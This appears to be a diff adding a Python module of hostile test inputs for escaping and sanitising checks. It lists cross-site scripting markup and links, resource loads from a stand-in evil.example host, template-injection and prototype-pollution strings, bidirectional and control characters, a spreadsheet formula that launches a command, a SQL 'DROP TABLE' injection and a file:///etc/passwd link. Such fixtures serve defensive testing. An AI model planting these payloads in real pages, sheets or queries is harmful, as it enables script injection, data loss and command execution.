@@ -1,0 +1,66 @@
+"""Texts of strangers that would do something wherever they were taken for more than text."""
+
+from __future__ import annotations
+
+ALERT = "alert(document.domain)"
+
+MARKUP = (
+    f"<script>{ALERT}</script>",
+    f"</script><script>{ALERT}</script>",
+    f"</SCRIPT ><script>{ALERT}</script>",
+    f"--></script><script>{ALERT}</script>",
+    f"<!--<script>{ALERT}//-->",
+    f"<img src=x onerror={ALERT}>",
+    f'"><img src=x onerror="{ALERT}">',
+    f"'><svg onload='{ALERT}'>",
+    f"<svg><script>{ALERT}</script></svg>",
+    f"<svg><animate onbegin={ALERT} attributeName=x dur=1s>",
+    f"<svg><a xlink:href='javascript:{ALERT}'><text y=20>x</text></a></svg>",
+    f"<math><mtext></mtext><script>{ALERT}</script></math>",
+    f"<body onload={ALERT}>",
+    f"<details open ontoggle={ALERT}>",
+    f"<video><source onerror={ALERT}></video>",
+    f"<iframe srcdoc='<script>parent.{ALERT}</script>'></iframe>",
+    f"<iframe src=javascript:{ALERT}></iframe>",
+    f"<object data='data:text/html,<script>{ALERT}</script>'></object>",
+    f"<embed src='data:text/html,<script>{ALERT}</script>'>",
+    f"<form action=javascript:{ALERT}><button>x</button></form>",
+    f"<input autofocus onfocus={ALERT}>",
+    f"<select autofocus onfocus={ALERT}>",
+    f"<marquee onstart={ALERT}>x</marquee>",
+    f"<noscript><p title='</noscript><img src=x onerror={ALERT}>'>",
+    f"<textarea></textarea><img src=x onerror={ALERT}>",
+    f"<template><img src=x onerror={ALERT}></template>",
+    "<base href='http://evil.example/'>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
+    "<link rel=stylesheet href='http://evil.example/a.css'>",
+    "<style>@import 'http://evil.example/a.css'; *{display:none}</style>",
+    "<p style='background:url(http://evil.example/a.png)'>x</p>",
+    "<img src='http://evil.example/a.png'>",
+    f"<a href='javascript:{ALERT}'>x</a>",
+    f"<x contenteditable onblur={ALERT}>",
+)
+LINKS = (
+    f"javascript:{ALERT}",
+    f"[x](javascript:{ALERT})",
+    f"![x](x' onerror='{ALERT})",
+    f"[x]: javascript:{ALERT}",
+    "![x](http://evil.example/a.png)",
+    f"data:text/html,<script>{ALERT}</script>",
+    "http://evil.example/",
+    "file:///etc/passwd",
+)
+TEMPLATES = ("{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>", "{{7*7}}")
+NAMES = ("__proto__", "constructor", "toString", "hasOwnProperty", "innerHTML", "dangerouslySetInnerHTML")
+SIGNS = (
+    "\u202egnp.exe\u202c",
+    "\u2066a\u2069\u200bb",
+    "\x1b[31mred\x1b]0;title\x07",
+    "\x00\x01\x7f",
+    "\ud800 alone",
+    "a\r\nb\x0bc\x0c",
+    "\U000e0041\U000e0042",
+)
+CELLS = ("=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", '"; DROP TABLE samples; --')
+
+HOSTILE = (*MARKUP, *LINKS, *TEMPLATES, *NAMES, *SIGNS, *CELLS)
